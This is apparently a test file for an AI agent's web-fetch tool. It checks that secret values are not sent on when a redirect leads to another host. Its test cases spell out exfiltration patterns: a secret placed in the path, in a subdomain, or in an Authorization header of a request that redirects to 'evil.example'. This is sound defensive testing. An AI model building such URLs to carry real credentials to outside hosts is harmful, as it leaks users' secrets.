import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { createSession } from '../../entry-points/session/session.ts'
import { calls, says, ScriptedModel } from '../../testing/index.ts'
import type { JsonObject } from '../../turn/json.ts'
import { createWebFetchTool } from '../web-fetch.ts'

const SECRET = 'The-Secret-Value'

/** `good` redirects to its parameter `to`, which may be an address of `evil`. */
async function startHosts() {
  const visited: string[] = []
  const server = createServer(({ headers, url = '' }, response) => {
    visited.push(`${headers.host?.split(':')[0]}${url}`)
    const to = new URL(url, 'http://good.example').searchParams.get('to')
    if (to === null) response.end('hello')
    else response.writeHead(302, { location: to }).end()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  return { visited, port: (server.address() as AddressInfo).port }
}

async function fetchWithSecret(port: number, args: JsonObject): Promise<string> {
  const tool = createWebFetchTool({
    allowHosts: ['good', 'evil', 'the-secret-value.evil'].map((name) => `${name}.example:${port}`),
    resolve: async () => ['127.0.0.1'],
  })
  const model = new ScriptedModel(calls('web_fetch', args), says('End.'))
  const namedSecrets = {
    get: () => ({ value: SECRET, hosts: ['good.example'] }),
    names: () => ['key'],
  }
  const safety = { mode: 'full', namedSecrets, secrets: [SECRET] } as const
  await createSession({ model, tools: [tool], preface: false, safety }).send('go')
  return JSON.stringify(model.request(1).messages)
}

describe('a secret in a web request', () => {
  it.each([
    ['in the path', (good: string, evil: string) => ({ url: `${good}/?to=http://${evil}/{{secret:key}}` })],
    [
      'in the name of a host',
      (good: string, evil: string) => ({ url: `${good}/?to=http://{{secret:key}}.${evil}/` }),
    ],
    [
      'after a redirect within the host',
      (good: string, evil: string) => ({
        url: `${good}/?to=${encodeURIComponent('/?to=')}http://${evil}/{{secret:key}}`,
      }),
    ],
    [
      'that was only sent to the first host',
      (good: string, evil: string) => ({ url: `${good}/?k={{secret:key}}&to=http://${evil}/` }),
    ],
    [
      'in a header',
      (good: string, evil: string) => ({
        url: `${good}/?to=http://${evil}/`,
        headers: { authorization: 'Bearer {{secret:key}}' },
      }),
    ],
  ])('does not go with a redirect to another host, and the result says so: %s', async (_, toArgs) => {
    const { visited, port } = await startHosts()
    const result = await fetchWithSecret(port, toArgs(`http://good.example:${port}`, `evil.example:${port}`))
    expect(visited.filter((one) => !one.startsWith('good.example'))).toEqual([])
    expect(visited).not.toEqual([])
    expect(result).toContain('redirects to another host. It was not followed')
    expect(result.toLowerCase()).not.toContain(SECRET.toLowerCase())
  })

  it('goes with a redirect within its host', async () => {
    const { visited, port } = await startHosts()
    const result = await fetchWithSecret(port, {
      url: `http://good.example:${port}/?to=/page?k={{secret:key}}`,
    })
    expect(visited.at(-1)).toBe(`good.example/page?k=${SECRET}`)
    expect(result).toContain('hello')
  })
})
